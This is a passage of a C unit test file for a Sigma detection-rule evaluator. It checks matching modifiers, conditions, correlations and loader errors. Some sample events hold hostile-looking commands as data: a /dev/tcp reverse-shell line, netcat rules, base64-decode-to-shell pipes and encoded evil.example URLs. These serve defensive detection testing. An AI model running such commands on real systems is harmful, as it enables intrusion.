/*
 * The Sigma evaluator (agent/src/sigma.c) on rules compiled by the console's
 * compiler: every modifier, wildcard and condition form matches what it
 * should and nothing else; the loader refuses malformed compiled sets.
 * Rules and events are written here for the purpose.
 */
#include "sigma.h"
#include "sigma_compile.h"

#include "yamori/err.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

/* Compiles YAML (must be accepted) and loads it. */
static sigma_ruleset_t *load_yaml(const char *yaml) {
  sigma_compiler_t *c = sigma_compiler_new(0);
  assert_non_null(c);
  int rc = sigma_compile_text(c, "t.yml", yaml, strlen(yaml));
  if (rc != 0)
    fail_msg("refused: %s (line %u)", sigma_compiler_report(c, 0)->reason,
             sigma_compiler_report(c, 0)->line);
  char *json = sigma_compiler_output(c);
  sigma_compiler_free(c);
  assert_non_null(json);
  sigma_ruleset_t *rs = NULL;
  char err[256];
  rc = sigma_ruleset_load(json, strlen(json), &rs, err, sizeof err);
  if (rc != 0)
    fail_msg("load: %s", err);
  free(json);
  return rs;
}

/* A process_creation rule with the given detection block. */
static sigma_ruleset_t *load_detection(const char *category, const char *detection) {
  char yaml[8192];
  snprintf(yaml, sizeof yaml,
           "title: Test rule\n"
           "id: test-1\n"
           "level: high\n"
           "tags: [attack.execution, attack.t1059.004]\n"
           "logsource:\n"
           "  category: %s\n"
           "  product: linux\n"
           "detection:\n%s",
           category, detection);
  return load_yaml(yaml);
}

/* Evaluates an event given as JSON; returns the number of matches. */
static int eval_json(sigma_eval_t *e, const sigma_ruleset_t *rs, const char *category,
                     const char *event) {
  cJSON *ev = cJSON_Parse(event);
  assert_non_null(ev);
  sigma_source_t src;
  sigma_cjson_t ctx;
  sigma_source_cjson(&src, &ctx, rs, ev);
  int n = sigma_eval_event(e, category, "linux", 0, &src);
  cJSON_Delete(ev);
  assert_true(n >= 0);
  return n;
}

/* One detection against events: each event string is "+{json}" (must
 * match) or "-{json}" (must not). */
static void check(const char *category, const char *detection, ...) {
  sigma_ruleset_t *rs = load_detection(category, detection);
  sigma_eval_t *e = sigma_eval_new(rs);
  assert_non_null(e);
  va_list ap;
  va_start(ap, detection);
  const char *ev;
  while ((ev = va_arg(ap, const char *)) != NULL) {
    int want = ev[0] == '+' ? 1 : 0;
    int got = eval_json(e, rs, category, ev + 1);
    if (got != want)
      fail_msg("detection:\n%sevent %s: %d matches, expected %d", detection, ev + 1, got, want);
  }
  va_end(ap);
  sigma_eval_free(e);
  sigma_ruleset_free(rs);
}

#define PC "process_creation"

static void test_exact_case_insensitive(void **state) {
  (void)state;
  check(PC, "  sel:\n    Image: /usr/bin/CURL\n  condition: sel\n",
        "+{\"process\":{\"executable\":\"/usr/bin/curl\"}}",
        "+{\"process\":{\"executable\":\"/USR/BIN/Curl\"}}",
        "-{\"process\":{\"executable\":\"/usr/bin/curlx\"}}",
        "-{\"process\":{\"executable\":\"x/usr/bin/curl\"}}", "-{\"process\":{}}", NULL);
}

static void test_contains_startswith_endswith(void **state) {
  (void)state;
  check(PC, "  sel:\n    CommandLine|contains: base64 -d\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"echo x | BASE64 -d | sh\"}}",
        "-{\"process\":{\"command_line\":\"base64 --decode\"}}", NULL);
  check(PC, "  sel:\n    Image|startswith: /tmp/\n  condition: sel\n",
        "+{\"process\":{\"executable\":\"/tmp/x\"}}",
        "-{\"process\":{\"executable\":\"/var/tmp/x\"}}", NULL);
  check(PC, "  sel:\n    Image|endswith:\n      - /nc\n      - /ncat\n  condition: sel\n",
        "+{\"process\":{\"executable\":\"/usr/bin/ncat\"}}",
        "+{\"process\":{\"executable\":\"/bin/nc\"}}",
        "-{\"process\":{\"executable\":\"/bin/nc.openbsd\"}}", NULL);
}

static void test_all_modifier(void **state) {
  (void)state;
  check(PC,
        "  sel:\n    CommandLine|contains|all:\n      - tar\n      - openssl\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"tar cz x | openssl enc\"}}",
        "-{\"process\":{\"command_line\":\"tar cz x\"}}",
        "-{\"process\":{\"command_line\":\"openssl enc\"}}", NULL);
}

static void test_wildcards_and_escapes(void **state) {
  (void)state;
  check(PC, "  sel:\n    CommandLine: 'sh -c *base64*|*sh'\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"sh -c echo aa | base64 -d | bash\"}}",
        "-{\"process\":{\"command_line\":\"sh -c echo aa | bash\"}}", NULL);
  check(PC, "  sel:\n    Image: '/bin/ba?h'\n  condition: sel\n",
        "+{\"process\":{\"executable\":\"/bin/bash\"}}",
        "+{\"process\":{\"executable\":\"/bin/ba\xc3\xa9h\"}}",
        "-{\"process\":{\"executable\":\"/bin/baash\"}}", NULL);
  /* \* is a literal star, \\ a literal backslash, \W a backslash then W. */
  check(PC, "  sel:\n    CommandLine: 'a\\*b'\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"a*b\"}}", "-{\"process\":{\"command_line\":\"axb\"}}",
        NULL);
  check(PC, "  sel:\n    CommandLine: 'C:\\\\x\\Windows'\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"C:\\\\x\\\\Windows\"}}",
        "-{\"process\":{\"command_line\":\"C:\\\\\\\\x\\\\Windows\"}}", NULL);
  check(PC, "  sel:\n    CommandLine|endswith: 'what\\?'\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"so what?\"}}",
        "-{\"process\":{\"command_line\":\"so whatx\"}}", NULL);
}

static void test_cased(void **state) {
  (void)state;
  check(PC, "  sel:\n    CommandLine|contains|cased: ABC\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"xABCx\"}}",
        "-{\"process\":{\"command_line\":\"xabcx\"}}", NULL);
}

static void test_regex(void **state) {
  (void)state;
  check(PC, "  sel:\n    Image|re: '^/tmp/[a-z]+$'\n  condition: sel\n",
        "+{\"process\":{\"executable\":\"/tmp/abc\"}}",
        "-{\"process\":{\"executable\":\"/tmp/ABC\"}}", NULL);
  check(PC, "  sel:\n    Image|re|i: '^/tmp/[a-z]+$'\n  condition: sel\n",
        "+{\"process\":{\"executable\":\"/tmp/ABC\"}}",
        "-{\"process\":{\"executable\":\"/tmp/ab1\"}}", NULL);
  check(PC, "  sel:\n    CommandLine|re|s: 'a.b'\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"a\\nb\"}}", "-{\"process\":{\"command_line\":\"ab\"}}",
        NULL);
  check(PC, "  sel:\n    CommandLine|re|m: '^b$'\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"a\\nb\\nc\"}}",
        "-{\"process\":{\"command_line\":\"a b c\"}}", NULL);
  check(PC, "  sel:\n    CommandLine|re: '^b$'\n  condition: sel\n",
        "-{\"process\":{\"command_line\":\"a\\nb\\nc\"}}", NULL);
}

static void test_regex_catastrophic_is_bounded(void **state) {
  (void)state;
  sigma_ruleset_t *rs =
      load_detection(PC, "  sel:\n    CommandLine|re: '^(a+)+$'\n  condition: sel\n");
  sigma_eval_t *e = sigma_eval_new(rs);
  char ev[256];
  snprintf(ev, sizeof ev, "{\"process\":{\"command_line\":\"%s\"}}",
           "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab");
  struct timespec t0, t1;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  assert_int_equal(eval_json(e, rs, PC, ev), 0);
  clock_gettime(CLOCK_MONOTONIC, &t1);
  double secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
  assert_true(secs < 2.0);
  assert_int_equal(sigma_eval_regex_limited(e), 1);
  sigma_eval_free(e);
  sigma_ruleset_free(rs);
}

static void test_base64(void **state) {
  (void)state;
  check(PC, "  sel:\n    CommandLine|base64|contains: hello\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"echo aGVsbG8= | base64 -d\"}}",
        "-{\"process\":{\"command_line\":\"echo hello\"}}", NULL);
  /* The text at the three offsets of a longer stream. */
  check(PC,
        "  sel:\n    CommandLine|base64offset|contains: 'http://evil.example/'\n"
        "  condition: sel\n",
        "+{\"process\":{\"command_line\":\"x aHR0cDovL2V2aWwuZXhhbXBsZS94eno=\"}}",
        "+{\"process\":{\"command_line\":\"x eGh0dHA6Ly9ldmlsLmV4YW1wbGUveHp6\"}}",
        "+{\"process\":{\"command_line\":\"x eHlodHRwOi8vZXZpbC5leGFtcGxlL3h6eg==\"}}",
        "-{\"process\":{\"command_line\":\"x aHR0cDovL2dvb2QuZXhhbXBsZS8=\"}}", NULL);
  check(PC, "  sel:\n    CommandLine|wide|base64offset|contains: Start-Process\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"-enc UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwA=\"}}",
        "+{\"process\":{\"command_line\":\"-enc AFMAdABhAHIAdAAtAFAAcgBvAGMAZQBzAHMA\"}}",
        "-{\"process\":{\"command_line\":\"U3RhcnQtUHJvY2Vzcw==\"}}", NULL);
}

static void test_windash(void **state) {
  (void)state;
  check(PC, "  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel\n",
        "+{\"process\":{\"command_line\":\"p -enc x\"}}",
        "+{\"process\":{\"command_line\":\"p /enc x\"}}",
        "+{\"process\":{\"command_line\":\"p \xe2\x80\x93"
        "enc x\"}}",
        "-{\"process\":{\"command_line\":\"p +enc x\"}}", NULL);
}

static void test_cidr(void **state) {
  (void)state;
  check("network_connection",
        "  sel:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n"
        "  condition: sel\n",
        "+{\"destination\":{\"ip\":\"10.1.2.3\"}}", "+{\"destination\":{\"ip\":\"fd12::1\"}}",
        "-{\"destination\":{\"ip\":\"11.0.0.1\"}}", "-{\"destination\":{\"ip\":\"fe80::1\"}}",
        "-{\"destination\":{\"ip\":\"not-an-ip\"}}", NULL);
}

static void test_exists_and_null(void **state) {
  (void)state;
  check(PC, "  sel:\n    CurrentDirectory|exists: true\n  condition: sel\n",
        "+{\"process\":{\"working_directory\":\"/\"}}", "-{\"process\":{}}", NULL);
  check(PC, "  sel:\n    CurrentDirectory|exists: false\n  condition: sel\n",
        "-{\"process\":{\"working_directory\":\"/\"}}", "+{\"process\":{}}", NULL);
  check(PC, "  sel:\n    CurrentDirectory: null\n  condition: sel\n", "+{\"process\":{}}",
        "+{\"process\":{\"working_directory\":\"\"}}",
        "-{\"process\":{\"working_directory\":\"/\"}}", NULL);
  check(PC, "  sel:\n    CurrentDirectory: ''\n  condition: sel\n",
        "+{\"process\":{\"working_directory\":\"\"}}", "-{\"process\":{}}", NULL);
}

static void test_numbers(void **state) {
  (void)state;
  check(PC, "  sel:\n    ProcessId|gt: 100\n  condition: sel\n", "+{\"process\":{\"pid\":101}}",
        "-{\"process\":{\"pid\":100}}", NULL);
  check(PC, "  sel:\n    ProcessId|gte: 100\n  condition: sel\n", "+{\"process\":{\"pid\":100}}",
        "-{\"process\":{\"pid\":99}}", NULL);
  check(PC, "  sel:\n    ProcessId|lt: 100\n  condition: sel\n", "+{\"process\":{\"pid\":99}}",
        "-{\"process\":{\"pid\":100}}", "-{\"process\":{\"pid\":\"x\"}}", NULL);
  check(PC, "  sel:\n    ProcessId|lte: 100\n  condition: sel\n", "+{\"process\":{\"pid\":100}}",
        "-{\"process\":{\"pid\":101}}", NULL);
  check(PC, "  sel:\n    ProcessId: 4242\n  condition: sel\n", "+{\"process\":{\"pid\":4242}}",
        "-{\"process\":{\"pid\":42420}}", NULL);
}

static void test_fieldref(void **state) {
  (void)state;
  check(PC, "  sel:\n    ParentImage|fieldref: Image\n  condition: sel\n",
        "+{\"process\":{\"executable\":\"/bin/sh\",\"parent\":{\"executable\":\"/bin/SH\"}}}",
        "-{\"process\":{\"executable\":\"/bin/sh\",\"parent\":{\"executable\":\"/bin/bash\"}}}",
        "-{\"process\":{\"executable\":\"/bin/sh\"}}", NULL);
}

static void test_keywords(void **state) {
  (void)state;
  check(PC, "  kw:\n    - evilword\n    - 'bad*thing'\n  condition: kw\n",
        "+{\"process\":{\"command_line\":\"run EVILWORD now\"}}",
        "+{\"file\":{\"path\":\"/tmp/bad-thing\"}}",
        "-{\"process\":{\"command_line\":\"good\"},\"user\":{\"name\":\"evilword\"}}", NULL);
}

static void test_hashes(void **state) {
  (void)state;
  check(PC,
        "  sel:\n    Hashes|contains:\n      - 'SHA256=ABCDEF01'\n      - 'MD5=00ff'\n"
        "  condition: sel\n",
        "+{\"process\":{\"hash\":{\"sha256\":\"abcdef01\"}}}",
        "-{\"process\":{\"hash\":{\"sha256\":\"00ff\"}}}", NULL);
}

static void test_lists_of_maps_and_arrays(void **state) {
  (void)state;
  check(PC,
        "  sel:\n    - Image|endswith: /nc\n    - CommandLine|contains: /dev/tcp/\n"
        "  condition: sel\n",
        "+{\"process\":{\"executable\":\"/bin/nc\"}}",
        "+{\"process\":{\"command_line\":\"bash -i >& /dev/tcp/1.2.3.4/80\"}}",
        "-{\"process\":{\"executable\":\"/bin/ls\"}}", NULL);
  /* An array field matches when one of its values does. */
  check("file_event", "  sel:\n    Image|endswith: /dd\n  condition: sel\n",
        "+{\"process\":{\"executable\":[\"/bin/x\",\"/bin/dd\"]}}", NULL);
}

static const char *const conds_detection = "  a:\n    CommandLine|contains: alpha\n"
                                           "  b:\n    CommandLine|contains: beta\n"
                                           "  c:\n    CommandLine|contains: gamma\n"
                                           "  _x:\n    CommandLine|contains: xray\n";

static void check_cond(const char *cond, const char *ev_ab, ...) {
  char det[2048];
  snprintf(det, sizeof det, "%s  condition: %s\n", conds_detection, cond);
  sigma_ruleset_t *rs = load_detection(PC, det);
  sigma_eval_t *e = sigma_eval_new(rs);
  va_list ap;
  va_start(ap, ev_ab);
  for (const char *s = ev_ab; s != NULL; s = va_arg(ap, const char *)) {
    char ev[256];
    snprintf(ev, sizeof ev, "{\"process\":{\"command_line\":\"%s\"}}", s + 1);
    int got = eval_json(e, rs, PC, ev);
    if (got != (s[0] == '+'))
      fail_msg("condition '%s' on '%s': %d", cond, s + 1, got);
  }
  va_end(ap);
  sigma_eval_free(e);
  sigma_ruleset_free(rs);
}

static void test_conditions(void **state) {
  (void)state;
  check_cond("a and b", "+alpha beta", "-alpha", "-beta", NULL);
  check_cond("a or b", "+alpha", "+beta", "-gamma", NULL);
  check_cond("a and not b", "+alpha", "-alpha beta", "-beta", NULL);
  check_cond("not a", "+beta", "-alpha", NULL);
  /* not binds tighter than and, and tighter than or. */
  check_cond("not a and b or c", "+beta", "+alpha gamma", "-alpha beta", "-delta", NULL);
  check_cond("a and (b or c)", "+alpha gamma", "+alpha beta", "-alpha", "-beta gamma", NULL);
  check_cond("(a or b) and not (c or _x)", "+alpha", "-alpha gamma", "-beta xray", NULL);
  check_cond("1 of a*", "+alpha", "-beta", NULL);
  check_cond("1 of them", "+gamma", "+beta", "-xray", "-delta", NULL);
  check_cond("all of them", "+alpha beta gamma", "-alpha beta", "+alpha beta gamma xray", NULL);
  check_cond("all of _*", "+xray", "-alpha", NULL);
  check_cond("any of c", "+gamma", "-alpha", NULL);
  check_cond("not 1 of them", "+delta", "-alpha", NULL);
}

static void test_match_report(void **state) {
  (void)state;
  sigma_ruleset_t *rs = load_detection(PC, "  sel:\n    Image|endswith: /sh\n"
                                           "    CommandLine|contains: ' -c '\n"
                                           "  filter:\n    User: root\n"
                                           "  condition: sel and not filter\n");
  sigma_eval_t *e = sigma_eval_new(rs);
  assert_int_equal(eval_json(e, rs, PC,
                             "{\"process\":{\"executable\":\"/bin/sh\",\"command_line\":\"sh -c "
                             "id\",\"user\":{\"name\":\"alice\"}}}"),
                   1);
  const sigma_match_t *m = sigma_eval_match(e, 0);
  assert_string_equal(m->id, "test-1");
  assert_string_equal(m->title, "Test rule");
  assert_string_equal(m->level, "high");
  assert_int_equal(m->severity, 73);
  assert_int_equal(m->ntechniques, 1);
  assert_string_equal(m->techniques[0], "T1059.004");
  assert_int_equal(m->ntags, 2);
  assert_int_equal(m->nfields, 2);
  assert_string_equal(m->fields[0], "process.executable");
  assert_string_equal(m->fields[1], "process.command_line");
  assert_null(sigma_eval_match(e, 1));
  /* The log source: another category or another product does not match. */
  cJSON *ev =
      cJSON_Parse("{\"process\":{\"executable\":\"/bin/sh\",\"command_line\":\"sh -c x\"}}");
  sigma_source_t src;
  sigma_cjson_t ctx;
  sigma_source_cjson(&src, &ctx, rs, ev);
  assert_int_equal(sigma_eval_event(e, "file_event", "linux", 0, &src), 0);
  assert_int_equal(sigma_eval_event(e, PC, "windows", 0, &src), 0);
  assert_int_equal(sigma_eval_event(e, PC, "linux", 0, &src), 1);
  cJSON_Delete(ev);
  sigma_eval_free(e);
  sigma_ruleset_free(rs);
}

/* Many rules: the prefilter picks the right candidates and rules without
 * literals are still evaluated. */
static void test_prefilter_many_rules(void **state) {
  (void)state;
  size_t cap = 600 * 400;
  char *yaml = malloc(cap);
  size_t off = 0;
  for (int i = 0; i < 500; i++)
    off += (size_t)snprintf(yaml + off, cap - off,
                            "%stitle: r%d\nid: r%d\nlogsource:\n  category: process_creation\n"
                            "detection:\n  sel:\n    CommandLine|contains: 'tok%04dx'\n"
                            "    Image|endswith: '/bin%d'\n  condition: sel\n",
                            i ? "---\n" : "", i, i, i, i % 7);
  off += (size_t)snprintf(yaml + off, cap - off,
                          "---\ntitle: neg\nid: neg\nlogsource:\n  category: process_creation\n"
                          "detection:\n  sel:\n    Image|endswith: /x\n  condition: not sel\n"
                          "---\ntitle: short\nid: short\nlogsource:\n  category: process_creation\n"
                          "detection:\n  sel:\n    CommandLine|contains: zq\n  condition: sel\n");
  sigma_ruleset_t *rs = load_yaml(yaml);
  free(yaml);
  assert_int_equal(sigma_ruleset_rule_count(rs), 502);
  assert_int_equal(sigma_ruleset_unfiltered_count(rs), 1);
  sigma_eval_t *e = sigma_eval_new(rs);
  assert_int_equal(eval_json(e, rs, PC,
                             "{\"process\":{\"executable\":\"/x\",\"command_line\":\"a TOK0123X "
                             "tok0124x\"}}"),
                   0);
  assert_int_equal(sigma_eval_last_candidates(e), 3);
  assert_int_equal(eval_json(e, rs, PC,
                             "{\"process\":{\"executable\":\"/bin4\",\"command_line\":\"a "
                             "TOK0123X tok0124x zq\"}}"),
                   3);
  assert_string_equal(sigma_eval_match(e, 0)->id, "r123");
  assert_string_equal(sigma_eval_match(e, 1)->id, "neg");
  assert_string_equal(sigma_eval_match(e, 2)->id, "short");
  sigma_eval_free(e);
  sigma_ruleset_free(rs);
}

/* The agent's own event structure, through sigma_source_event(). */
static void test_agent_event_source(void **state) {
  (void)state;
  sigma_ruleset_t *rs = load_detection(PC, "  sel:\n    CommandLine|contains: 'curl '\n"
                                           "    ProcessId|gt: 100\n"
                                           "    process.args|endswith: evil\n"
                                           "  q:\n    process.args: 'a\"b\u00e9'\n"
                                           "  h:\n    host.name: pc1\n"
                                           "  condition: sel and q and h\n");
  sigma_eval_t *e = sigma_eval_new(rs);
  ym_event_t base, ev;
  ym_event_init(&base, NULL);
  assert_int_equal(ym_event_set_cstr(&base, YM_F_HOST_NAME, "PC1"), 0);
  ym_event_init(&ev, &base);
  assert_int_equal(ym_event_set_cstr(&ev, YM_F_PROCESS_COMMAND_LINE, "curl x"), 0);
  assert_int_equal(ym_event_set_int(&ev, YM_F_PROCESS_PID, 4242), 0);
  /* A byte that is not UTF-8 is stored as \udcff and must come back. */
  const char *items[] = {"curl", "a\"b\xc3\xa9",
                         "x\xff"
                         "evil"};
  const size_t lens[] = {4, 5, 6};
  assert_int_equal(ym_event_set_strv(&ev, YM_F_PROCESS_ARGS, items, lens, 3), 0);
  sigma_source_t src;
  sigma_event_src_t ctx;
  sigma_source_event(&src, &ctx, rs, &ev);
  assert_int_equal(sigma_eval_event(e, PC, "linux", 0, &src), 1);
  sigma_str_t v[4];
  size_t f;
  for (f = 0; f < sigma_ruleset_field_count(rs); f++)
    if (strcmp(sigma_ruleset_field_name(rs, f), "process.args") == 0)
      break;
  assert_int_equal(src.get(src.ctx, f, v, 4), 3);
  assert_int_equal(v[2].n, 6);
  assert_memory_equal(v[2].p,
                      "x\xff"
                      "evil",
                      6);
  /* The pid below the bound: no match. */
  assert_int_equal(ym_event_set_int(&ev, YM_F_PROCESS_PID, 50), 0);
  assert_int_equal(sigma_eval_event(e, PC, "linux", 0, &src), 0);
  ym_event_free(&ev);
  ym_event_free(&base);
  sigma_eval_free(e);
  sigma_ruleset_free(rs);
}

/* Evaluates a JSON event at time t seconds; returns the matches and fills
 * ids (space-separated, "corr:" before correlations). */
static int eval_at(sigma_eval_t *e, const sigma_ruleset_t *rs, const char *category, int t,
                   const char *event, char *ids, size_t idlen) {
  cJSON *ev = cJSON_Parse(event);
  assert_non_null(ev);
  sigma_source_t src;
  sigma_cjson_t ctx;
  sigma_source_cjson(&src, &ctx, rs, ev);
  int n = sigma_eval_event(e, category, "linux", (int64_t)t * 1000000000, &src);
  cJSON_Delete(ev);
  assert_true(n >= 0);
  size_t off = 0;
  ids[0] = '\0';
  for (int i = 0; i < n; i++) {
    const sigma_match_t *m = sigma_eval_match(e, (size_t)i);
    off += (size_t)snprintf(ids + off, idlen - off, "%s%s%s", i ? " " : "",
                            m->correlation ? "corr:" : "", m->id);
  }
  return n;
}

#define RENAME(img, path)                                                                          \
  "{\"process\":{\"executable\":\"" img "\"},\"file\":{\"path\":\"" path "\"}}"

/* Ransomware shape: one program renames many files to a new extension
 * within seconds. */
static void test_correlation_event_count(void **state) {
  (void)state;
  sigma_ruleset_t *rs =
      load_yaml("title: Rename to .locked\nid: base-1\nlogsource:\n  category: file_rename\n"
                "detection:\n  sel:\n    TargetFilename|endswith: .locked\n  condition: sel\n"
                "---\ntitle: Many renames\nid: corr-1\nlevel: critical\ntags: [attack.t1486]\n"
                "correlation:\n  type: event_count\n  rules: [base-1]\n  group-by: [Image]\n"
                "  timespan: 10s\n  condition:\n    gte: 5\n");
  assert_int_equal(sigma_ruleset_correlation_count(rs), 1);
  sigma_eval_t *e = sigma_eval_new(rs);
  char ids[256];
  for (int i = 0; i < 4; i++) {
    assert_int_equal(
        eval_at(e, rs, "file_rename", i, RENAME("/tmp/evil", "/h/a.locked"), ids, sizeof ids), 1);
    /* Another program's renames are another group. */
    eval_at(e, rs, "file_rename", i, RENAME("/usr/bin/mv", "/h/b.locked"), ids, sizeof ids);
  }
  assert_int_equal(
      eval_at(e, rs, "file_rename", 5, RENAME("/tmp/evil", "/h/c.locked"), ids, sizeof ids), 2);
  assert_string_equal(ids, "base-1 corr:corr-1");
  const sigma_match_t *m = sigma_eval_match(e, 1);
  assert_int_equal(m->severity, 99);
  assert_string_equal(m->techniques[0], "T1486");
  assert_int_equal(m->nfields, 1);
  assert_string_equal(m->fields[0], "process.executable");
  /* Counting starts again; events further apart than the span never fire. */
  for (int i = 0; i < 10; i++)
    assert_int_equal(eval_at(e, rs, "file_rename", 100 + 11 * i, RENAME("/tmp/slow", "/h/d.locked"),
                             ids, sizeof ids),
                     1);
  sigma_eval_free(e);
  sigma_ruleset_free(rs);
}

static void test_correlation_value_count(void **state) {
  (void)state;
  sigma_ruleset_t *rs =
      load_yaml("title: ssh started\nid: ssh-1\nname: ssh_start\nlogsource:\n"
                "  category: process_creation\n"
                "detection:\n  sel:\n    Image|endswith: /ssh\n  condition: sel\n"
                "---\ntitle: ssh to many hosts\nid: corr-2\ncorrelation:\n  type: value_count\n"
                "  rules: [ssh_start]\n  group-by: [User]\n  timespan: 1m\n"
                "  condition:\n    field: CommandLine\n    gt: 2\n");
  sigma_eval_t *e = sigma_eval_new(rs);
  char ids[256];
  const char *same = "{\"process\":{\"executable\":\"/usr/bin/ssh\",\"command_line\":\"ssh a\","
                     "\"user\":{\"name\":\"bob\"}}}";
  for (int i = 0; i < 5; i++)
    assert_int_equal(eval_at(e, rs, PC, i, same, ids, sizeof ids), 1);
  const char *b = "{\"process\":{\"executable\":\"/usr/bin/ssh\",\"command_line\":\"ssh b\","
                  "\"user\":{\"name\":\"bob\"}}}";
  const char *c = "{\"process\":{\"executable\":\"/usr/bin/ssh\",\"command_line\":\"ssh c\","
                  "\"user\":{\"name\":\"bob\"}}}";
  assert_int_equal(eval_at(e, rs, PC, 6, b, ids, sizeof ids), 1);
  assert_int_equal(eval_at(e, rs, PC, 7, c, ids, sizeof ids), 2);
  assert_string_equal(ids, "ssh-1 corr:corr-2");
  sigma_eval_free(e);
  sigma_ruleset_free(rs);
}

/* Many failures, then a success, for the same user, in that order. */
static void test_correlation_temporal(void **state) {
  (void)state;
  sigma_ruleset_t *rs =
      load_yaml("title: A\nid: a-1\nlogsource:\n  category: process_creation\n"
                "detection:\n  sel:\n    CommandLine|contains: step-one\n  condition: sel\n"
                "---\ntitle: B\nid: b-1\nlogsource:\n  category: process_creation\n"
                "detection:\n  sel:\n    CommandLine|contains: step-two\n  condition: sel\n"
                "---\ntitle: A then B\nid: corr-3\ncorrelation:\n  type: temporal_ordered\n"
                "  rules: [a-1, b-1]\n  group-by: [User]\n  timespan: 30s\n");
  sigma_eval_t *e = sigma_eval_new(rs);
  char ids[256];
  const char *a = "{\"process\":{\"command_line\":\"step-one\",\"user\":{\"name\":\"u\"}}}";
  const char *b2 = "{\"process\":{\"command_line\":\"step-two\",\"user\":{\"name\":\"u\"}}}";
  const char *bo = "{\"process\":{\"command_line\":\"step-two\",\"user\":{\"name\":\"other\"}}}";
  /* B before A: not in order. */
  assert_int_equal(eval_at(e, rs, PC, 0, b2, ids, sizeof ids), 1);
  assert_int_equal(eval_at(e, rs, PC, 1, a, ids, sizeof ids), 1);
  /* Another user's B is another group. */
  assert_int_equal(eval_at(e, rs, PC, 2, bo, ids, sizeof ids), 1);
  assert_int_equal(eval_at(e, rs, PC, 3, b2, ids, sizeof ids), 2);
  assert_string_equal(ids, "b-1 corr:corr-3");
  /* Too far apart. */
  assert_int_equal(eval_at(e, rs, PC, 100, a, ids, sizeof ids), 1);
  assert_int_equal(eval_at(e, rs, PC, 131, b2, ids, sizeof ids), 1);
  sigma_eval_free(e);
  sigma_ruleset_free(rs);
}

static void expect_refused(const char *json, const char *needle) {
  sigma_ruleset_t *rs = (sigma_ruleset_t *)1;
  char err[256];
  int rc = sigma_ruleset_load(json, strlen(json), &rs, err, sizeof err);
  assert_int_not_equal(rc, 0);
  assert_null(rs);
  if (strstr(err, needle) == NULL)
    fail_msg("error '%s' lacks '%s'", err, needle);
}

#define HEAD "{\"format\":\"yamori-sigma\",\"version\":1,\"rules\":["
#define RULE(m)                                                                                    \
  "{\"id\":\"r1\",\"title\":\"t\",\"level\":\"low\",\"logsource\":{\"category\":\"x\"},"           \
  "\"match\":" m "}"

static void test_loader_refusals(void **state) {
  (void)state;
  expect_refused("{", "not JSON");
  expect_refused("{\"format\":\"other\",\"version\":1,\"rules\":[]}", "yamori-sigma");
  expect_refused(HEAD RULE("{\"field\":\"a.b\",\"match\":\"near\",\"values\":[\"x\"]}") "]}",
                 "rule 0 (r1): unknown match");
  expect_refused(HEAD RULE("{\"field\":\"a b\",\"match\":\"exact\",\"values\":[\"x\"]}") "]}",
                 "bad field name");
  expect_refused(HEAD RULE("{\"field\":\"a.b\",\"match\":\"re\",\"values\":[\"(\"]}") "]}",
                 "regex does not compile");
  expect_refused(
      HEAD RULE("{\"field\":\"a.b\",\"match\":\"cidr\",\"values\":[\"1.2.3.4/33\"]}") "]}",
      "bad cidr");
  expect_refused(HEAD RULE("{\"field\":\"a.b\",\"match\":\"exact\",\"values\":[]}") "]}",
                 "values must be");
  expect_refused(HEAD RULE("{\"field\":\"a.b\",\"match\":\"gt\",\"value\":\"1\"}") "]}",
                 "needs a number");
  expect_refused(HEAD RULE("{\"and\":[]}") "]}", "non-empty list");
  expect_refused(HEAD "{\"id\":\"r1\",\"title\":\"t\",\"level\":\"severe\",\"logsource\":{"
                      "\"category\":\"x\"},\"match\":{}}]}",
                 "unknown level");
  expect_refused(HEAD RULE("{\"field\":\"a.b\",\"match\":\"exact\",\"values\":[\"x\"]}") "," RULE(
                     "{\"field\":\"a.b\",\"match\":\"exact\",\"values\":[\"x\"]}") "]}",
                 "id used twice");
  expect_refused(
      HEAD RULE("{\"field\":\"a.b\",\"match\":\"null\"}") "],\"correlations\":[{"
                                                          "\"id\":\"c1\",\"title\":\"t\",\"level\":"
                                                          "\"low\",\"correlation\":{"
                                                          "\"type\":\"temporal\",\"rules\":["
                                                          "\"nope\"],\"timespan_s\":5}}]}",
      "rule 1 (c1): correlation names a rule not in the set");
  /* Deep nesting. */
  size_t cap = 100000;
  char *deep = malloc(cap);
  size_t off = (size_t)snprintf(deep, cap, "%s",
                                HEAD "{\"id\":\"r1\",\"title\":\"t\",\"level\":"
                                     "\"low\",\"logsource\":{\"category\":\"x\"},"
                                     "\"match\":");
  for (int i = 0; i < 100; i++)
    off += (size_t)snprintf(deep + off, cap - off, "{\"not\":");
  off += (size_t)snprintf(deep + off, cap - off, "{\"field\":\"a.b\",\"match\":\"null\"}");
  for (int i = 0; i < 100; i++)
    off += (size_t)snprintf(deep + off, cap - off, "}");
  snprintf(deep + off, cap - off, "}]}");
  expect_refused(deep, "deeper than");
  /* Too many values in one matcher. */
  off = (size_t)snprintf(deep, cap, "%s",
                         HEAD "{\"id\":\"r1\",\"title\":\"t\",\"level\":\"low\",\"logsource\":{"
                              "\"category\":\"x\"},\"match\":{\"field\":\"a.b\",\"match\":"
                              "\"exact\",\"values\":[");
  for (int i = 0; i < 5000; i++)
    off += (size_t)snprintf(deep + off, cap - off, "%s\"v\"", i ? "," : "");
  snprintf(deep + off, cap - off, "]}}]}");
  expect_refused(deep, "values must be a list of 1 to 4096");
  free(deep);
}

static void test_loader_accepts_correlations(void **state) {
